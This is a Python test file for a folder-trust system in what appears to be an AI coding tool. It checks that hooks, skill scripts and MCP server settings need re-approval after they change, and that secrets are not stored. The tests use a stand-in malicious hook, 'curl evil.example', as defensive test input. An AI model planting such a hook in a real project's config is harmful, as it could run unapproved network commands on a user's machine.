"""Trust on first use: what is remembered, what is not opened before, what is asked about again."""

from __future__ import annotations

import json
from concurrent.futures import ProcessPoolExecutor
from multiprocessing import get_context
from pathlib import Path

import pytest

from ion_core.config.load import load
from ion_core.config.trust import NAME, arrive, may_cover, standing, trust


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "own"


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    folder = tmp_path / "shop"
    (folder / ".ion").mkdir(parents=True)
    return folder


def _hook(shop: Path, command: str) -> None:
    hook = f'[[hooks]]\nevent = "PostToolUse"\ncommand = ["{command}"]\n'
    (shop / ".ion/config.toml").write_text(hook)


def test_a_folder_is_trusted_once_the_person_said_so(home: Path, shop: Path) -> None:
    assert not standing(shop, home).trusted
    trust(shop, home)
    assert standing(shop, home).trusted
    assert (home / NAME).stat().st_mode & 0o777 == 0o600


def test_trust_is_in_this_folder_by_whatever_name(home: Path, shop: Path, tmp_path: Path) -> None:
    trust(shop, home)
    (tmp_path / "link").symlink_to(shop)
    assert standing(tmp_path / "link", home).trusted
    assert standing(shop / ".." / "shop", home).trusted


def test_another_folder_in_its_place_is_not_trusted(home: Path, shop: Path, tmp_path: Path) -> None:
    trust(shop, home)
    shop.rename(tmp_path / "moved")
    shop.mkdir()
    assert not standing(shop, home).trusted
    assert not standing(tmp_path / "moved", home).trusted


def test_a_folder_inside_is_trusted_only_when_that_was_chosen(home: Path, shop: Path) -> None:
    inner = shop / "vendor" / "theirs"
    inner.mkdir(parents=True)
    trust(shop, home)
    assert not standing(inner, home).trusted
    trust(shop, home, below=True)
    assert standing(inner, home).trusted


def test_a_change_below_a_trusted_folder_is_asked_about(home: Path, shop: Path) -> None:
    trust(shop.parent, home, below=True)
    _hook(shop, "ruff")
    assert arrive(shop, home).trusted
    assert standing(shop, home).trusted
    _hook(shop, "curl evil.example")
    assert any("curl" in line for line in arrive(shop, home).changes)
    trust(shop, home)
    assert standing(shop, home).trusted


def test_trust_from_above_ends_with_the_trust_above(home: Path, shop: Path) -> None:
    trust(shop.parent, home, below=True)
    assert arrive(shop, home).trusted
    file = home / NAME
    told = json.loads(file.read_text())
    del told["folders"][str(shop.parent)]
    file.write_text(json.dumps(told))
    assert not standing(shop, home).trusted


def test_trusting_a_changed_folder_again_keeps_what_is_below_it(home: Path, shop: Path) -> None:
    trust(shop, home, below=True)
    _hook(shop, "ruff")
    trust(shop, home)
    (shop / "inner").mkdir()
    assert standing(shop / "inner", home).trusted


def test_a_git_file_that_points_elsewhere_lends_no_trust(home: Path, shop: Path) -> None:
    (shop / ".git").mkdir()
    trust(shop, home)
    evil = shop.parent / "evil"
    evil.mkdir()
    (evil / ".git").write_text(f"gitdir: {shop / '.git'}\n")
    assert not standing(evil, home).trusted


def test_neither_the_root_nor_the_persons_folder_covers_what_is_below(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    person = tmp_path / "person"
    (person / "project").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(person))
    assert not may_cover(Path("/"))
    assert not may_cover(person)
    assert not may_cover(tmp_path)
    assert may_cover(person / "project")
    trust(person, home, below=True)
    assert standing(person, home).trusted
    assert not standing(person / "project", home).trusted


def test_names_are_listed_also_of_the_project_around(home: Path, shop: Path) -> None:
    (shop / ".ion/config.toml").touch()
    (shop / ".env").touch()
    inner = shop / "src"
    inner.mkdir()
    assert standing(shop, home).names == (".ion/config.toml", ".env")
    assert standing(inner, home).names == (str(shop / ".ion/config.toml"), str(shop / ".env"))


def test_a_changed_hook_is_asked_about_with_the_difference(home: Path, shop: Path) -> None:
    _hook(shop, "ruff")
    trust(shop, home)
    assert standing(shop, home).trusted
    _hook(shop, "curl evil.example")
    found = standing(shop, home)
    assert not found.trusted
    gone, new = sorted(found.changes, reverse=True)
    assert (gone[0], "ruff" in gone, new[0], "curl" in new) == ("-", True, "+", True)
    trust(shop, home)
    assert standing(shop, home).trusted


@pytest.mark.parametrize(
    "command",
    [
        '["./.ion/hooks/h.sh"]',
        '["sh", ".ion/hooks/h.sh"]',
        '["sh", "-c", "cat | ./.ion/hooks/h.sh"]',
    ],
)
def test_a_changed_script_of_a_hook_is_asked_about_with_its_difference(
    home: Path, shop: Path, command: str
) -> None:
    (shop / ".ion/config.toml").write_text(f'[[hooks]]\nevent = "Stop"\ncommand = {command}\n')
    script = shop / ".ion/hooks/h.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\necho one\n")
    trust(shop, home)
    assert standing(shop, home).trusted
    script.write_text("#!/bin/sh\necho one\necho evil\n")
    found = standing(shop, home)
    assert not found.trusted
    assert "+ echo evil" in found.changes
    assert "- echo one" not in found.changes


def test_what_executes_nothing_may_change_and_may_go(home: Path, shop: Path) -> None:
    _hook(shop, "ruff")
    trust(shop, home)
    file = shop / ".ion/config.toml"
    file.write_text(file.read_text() + '\n[tui]\ntheme = "ion-light"\n')
    assert standing(shop, home).trusted
    file.unlink()
    assert standing(shop, home).trusted


def test_servers_and_scripts_of_skills_are_watched_and_values_are_not_kept(
    home: Path, shop: Path
) -> None:
    server = {"command": "npx", "args": ["-y", "x"], "env": {"TOKEN": "s3cret"}}
    (shop / ".mcp.json").write_text(json.dumps({"mcpServers": {"files": server}}))
    script = shop / ".ion/skills/pdf/run.sh"
    script.parent.mkdir(parents=True)
    script.write_text("echo 1\n")
    trust(shop, home)
    assert "s3cret" not in (home / NAME).read_text()
    script.write_text("echo 22\n")
    assert any("run.sh" in line for line in standing(shop, home).changes)
    trust(shop, home)
    server["args"] = ["-y", "evil"]
    (shop / ".mcp.json").write_text(json.dumps({"mcpServers": {"files": server}}))
    assert any("evil" in line for line in standing(shop, home).changes)


@pytest.mark.parametrize("damage", ["{", "[]", '{"folders": {"/": 7}}'])
def test_a_damaged_file_trusts_nothing_and_is_said(home: Path, shop: Path, damage: str) -> None:
    trust(shop, home)
    (home / NAME).write_text(damage)
    found = standing(shop, home)
    assert (found.trusted, "damaged" in found.damage) == (False, True)


def test_the_files_of_a_folder_that_is_not_trusted_have_no_say(home: Path, shop: Path) -> None:
    (shop / ".ion/config.toml").write_text('model = "openai/theirs"\n')
    loaded = load(shop, home=home, env={})
    assert loaded.settings.model == ""
    assert "not trusted" in loaded.warnings[0]
    trust(shop, home)
    assert load(shop, home=home, env={}).settings.model == "openai/theirs"


def test_a_broken_file_of_a_folder_that_is_not_trusted_is_not_read(home: Path, shop: Path) -> None:
    (shop / ".ion/config.toml").write_text("this is no TOML")
    assert load(shop, home=home, env={}).settings.mode == "write"


def test_decisions_of_two_processes_at_once_are_all_kept(home: Path, tmp_path: Path) -> None:
    shops = [tmp_path / f"shop{number}" for number in range(24)]
    for folder in shops:
        folder.mkdir()
    with ProcessPoolExecutor(4, mp_context=get_context("spawn")) as pool:
        list(pool.map(trust, shops, [home] * len(shops)))
    assert [standing(folder, home).trusted for folder in shops] == [True] * len(shops)
